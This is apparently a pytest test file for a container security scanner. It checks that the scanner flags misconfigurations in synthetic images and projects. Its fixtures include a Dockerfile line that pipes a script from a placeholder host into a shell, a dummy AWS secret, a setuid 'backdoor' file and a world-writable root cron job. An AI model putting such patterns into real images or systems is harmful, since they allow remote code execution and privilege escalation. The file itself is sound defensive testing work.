"""``--scanners misconfig`` inside image and fs scans."""

from __future__ import annotations

import json

from imagetools import DEBIAN_OS_RELEASE, SyntheticImage, dpkg_status, files, layer_tar, write_oci_layout
from seawall.cli.main import main


def test_image_config_checks_in_image_scan(tmp_path, capsysbinary):
    image = SyntheticImage(
        [
            layer_tar(
                files(
                    {
                        "etc/os-release": DEBIAN_OS_RELEASE,
                        "var/lib/dpkg/status": dpkg_status([("bash", "5.2", "")]),
                    }
                )
            )
        ],
        config_extra={"config": {"Env": ["AWS_SECRET_ACCESS_KEY=abc"], "ExposedPorts": {"22/tcp": {}}}},
    )
    layout = write_oci_layout(tmp_path / "oci", image)
    rc = main(
        [
            "--cache-dir",
            str(tmp_path / "c"),
            "image",
            "--input",
            str(layout),
            "--scanners",
            "misconfig",
            "-f",
            "json",
        ]
    )
    out = json.loads(capsysbinary.readouterr().out)
    assert rc == 0
    config = next(r for r in out["Results"] if r["Class"] == "config")
    ids = {m["ID"] for m in config["Misconfigurations"]}
    assert "IMG001" in ids  # runs as root
    assert len(ids) >= 3


def test_fs_scan_checks_configuration_files(tmp_path, capsysbinary):
    project = tmp_path / "project"
    project.mkdir()
    (project / "Dockerfile").write_text("FROM debian:latest\nRUN curl http://x.invalid/i.sh | sh\n")
    (project / "requirements.txt").write_text("requests==2.19.0\n")
    rc = main(
        ["--cache-dir", str(tmp_path / "c"), "fs", str(project), "--scanners", "misconfig", "-f", "json"]
    )
    out = json.loads(capsysbinary.readouterr().out)
    assert rc == 0
    dockerfile = next(r for r in out["Results"] if r["Target"].endswith("Dockerfile"))
    assert dockerfile["Class"] == "config"
    assert dockerfile["Misconfigurations"]
    assert any(r["Type"] == "pip" for r in out["Results"])


def test_setuid_and_world_writable_files_reach_the_image_checks(tmp_path, capsysbinary):
    from imagetools import Entry

    layer = layer_tar(
        [
            Entry("etc/os-release", DEBIAN_OS_RELEASE.encode()),
            Entry("usr/local/bin/backdoor", b"\x7fELF...", mode=0o4755),
            Entry("etc/cron.d/job", b"* * * * * root true\n", mode=0o666),
        ]
    )
    layout = write_oci_layout(tmp_path / "oci", SyntheticImage([layer]))
    rc = main(
        [
            "--cache-dir",
            str(tmp_path / "c"),
            "image",
            "--input",
            str(layout),
            "--scanners",
            "misconfig",
            "-f",
            "json",
        ]
    )
    out = json.loads(capsysbinary.readouterr().out)
    assert rc == 0
    config = next(r for r in out["Results"] if r["Class"] == "config")
    by_id = {m["ID"]: m for m in config["Misconfigurations"]}
    assert "usr/local/bin/backdoor" in by_id["IMG010"]["Message"]
    assert "etc/cron.d/job" in by_id["IMG011"]["Message"]
    assert not any(r["Class"] == "malware" for r in out["Results"])  # the malware scanner was not chosen
